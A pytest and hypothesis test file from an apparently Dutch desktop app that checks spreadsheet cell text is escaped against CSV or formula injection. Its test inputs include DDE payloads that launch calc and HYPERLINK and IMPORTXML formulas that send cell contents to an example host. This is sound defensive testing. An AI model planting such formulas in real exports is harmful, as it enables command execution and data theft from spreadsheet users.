# SPDX-License-Identifier: EUPL-1.2
"""What somebody typed never becomes a formula in a spreadsheet, and comes back unchanged."""

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from leerplicht_desktop.domain.celtekst import GEVAARLIJK, kaal, veilig

# What the ASVS (1.2.10) and the OWASP page on CSV injection give as examples.
AANVALLEN = (
    "=1+1",
    '=cmd|" /C calc"!A0',
    '=HYPERLINK("http://example.com?x="&A1,"klik")',
    '=IMPORTXML(CONCAT("http://example.com/",A1),"//a")',
    '=1+1";=1+1',
    "+31 6 12345678",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
)


@pytest.mark.parametrize("tekst", AANVALLEN)
def test_export_escapes_formula(tekst: str) -> None:
    geschreven = veilig(tekst)

    assert geschreven == f"'{tekst}"
    assert kaal(geschreven) == tekst


@pytest.mark.parametrize("tekst", ["", "'s-Gravenhage", "''", "Jan-Willem", "a=b", " =1", "12,5"])
def test_ordinary_text_is_left_alone(tekst: str) -> None:
    assert veilig(tekst) == kaal(tekst) == tekst


_LASTIG = st.text(alphabet=st.sampled_from("'\"a \u00e9;" + GEVAARLIJK), max_size=8)


@given(st.one_of(st.text(), _LASTIG))
@example("'=1")
@example("''=1")
def test_every_text_comes_back_and_none_begins_a_formula(tekst: str) -> None:
    geschreven = veilig(tekst)

    assert kaal(geschreven) == tekst
    assert not geschreven or geschreven[0] not in GEVAARLIJK
